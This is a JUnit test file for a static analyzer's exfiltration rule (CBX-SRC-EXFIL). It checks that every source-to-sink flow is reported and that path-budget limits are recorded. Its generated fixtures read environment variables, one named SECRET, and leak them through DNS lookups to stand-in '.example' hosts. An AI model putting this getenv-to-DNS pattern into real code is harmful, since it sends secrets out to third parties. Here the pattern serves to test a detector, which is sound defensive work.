package dev.clearbox.analyzers.source;

import dev.clearbox.core.Finding;
import dev.clearbox.core.PathStep;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * No flow is cut by size: more (source, sink) pairs than the 5,000 once reported are all reported, and where one
 * source's paths exceed its path budget the further flows are still findings, with their source and sink steps and
 * a flow limit that says how many kept only those.
 */
class FlowBudgetTest {
    @TempDir
    Path root;

    private static List<Finding> flows(SourceAnalysisResult r) {
        return r.findings().stream().filter(x -> x.ruleId().equals("CBX-SRC-EXFIL")).toList();
    }

    @Test
    void everyPairIsReportedBeyondFiveThousand() {
        // 80 sources, each passed to one method with 80 sinks: 6,400 pairs
        StringBuilder a = new StringBuilder("package p;\nclass A {\n");
        for (int i = 0; i < 80; i++) {
            a.append("    void s").append(i).append("() throws Exception { B.send(System.getenv(\"T").append(i)
                    .append("\")); }\n");
        }
        StringBuilder b = new StringBuilder("package p;\nclass B {\n    static void send(String d) throws Exception {\n");
        for (int j = 0; j < 80; j++) {
            b.append("        java.net.InetAddress.getByName(d + \".h").append(j).append(".example\");\n");
        }
        SourceAnalysisResult r = SourceFixture.in(root).file("p/A.java", a.append("}\n").toString())
                .file("p/B.java", b.append("    }\n}\n").toString()).analyze();
        List<Finding> flows = flows(r);
        Set<Integer> sinkLines = flows.stream().map(f -> f.location().line()).collect(Collectors.toSet());
        assertEquals(80, sinkLines.size(), "every sink call has its flows");
        assertEquals(6_400, flows.stream().mapToInt(f -> f.flow().grouped()).sum(), "every (source, sink) pair");
        assertTrue(r.coverage().flowLimits().isEmpty(), r.coverage().flowLimits().toString());
    }

    @Test
    void flowsBeyondTheirSourcesPathBudgetKeepTheirEndsAndAreCounted() {
        // one source, a chain of 400 calls, then 300 sinks: about 120,000 path edges, over the 100,000 kept per source
        int depth = 400;
        int sinks = 300;
        StringBuilder c = new StringBuilder("package p;\nclass C {\n");
        c.append("    void start() throws Exception { m0(System.getenv(\"SECRET\")); }\n");
        for (int i = 0; i < depth; i++) {
            c.append("    void m").append(i).append("(String d) throws Exception { m").append(i + 1).append("(d); }\n");
        }
        c.append("    void m").append(depth).append("(String d) throws Exception {\n");
        for (int j = 0; j < sinks; j++) {
            c.append("        java.net.InetAddress.getByName(d + \".h").append(j).append(".example\");\n");
        }
        SourceAnalysisResult r = SourceFixture.in(root).file("p/C.java", c.append("    }\n}\n").toString()).analyze();
        List<Finding> flows = flows(r);
        assertEquals(sinks, flows.stream().map(f -> f.location().line()).distinct().count(), "no sink is dropped");
        List<Finding> ends = flows.stream().filter(f -> f.message().contains("only the path's first and last steps"))
                .toList();
        assertFalse(ends.isEmpty(), "the budget was spent");
        assertTrue(ends.size() < sinks, "the first flows keep their whole path");
        for (Finding f : ends) {
            PathStep first = f.path().get(0);
            PathStep last = f.path().get(f.path().size() - 1);
            assertEquals(3, first.location().line(), f.toString()); // the source call
            assertEquals(f.location().line(), last.location().line(), f.toString());
            assertTrue(last.note().contains("not kept (path budget spent)"), last.toString());
            assertTrue(f.path().size() < 10, f.path().toString());
        }
        Finding whole = flows.stream().filter(f -> !ends.contains(f)).findFirst().orElseThrow();
        assertTrue(whole.path().size() > depth / 2, "a kept path goes through the chain: " + whole.path().size());
        List<String> limits = r.coverage().flowLimits();
        assertEquals(1, limits.size(), limits.toString());
        assertTrue(limits.get(0).startsWith(ends.size() + " source-to-sink flows are reported with only their first"
                + " and last step"), limits.toString());
    }
}
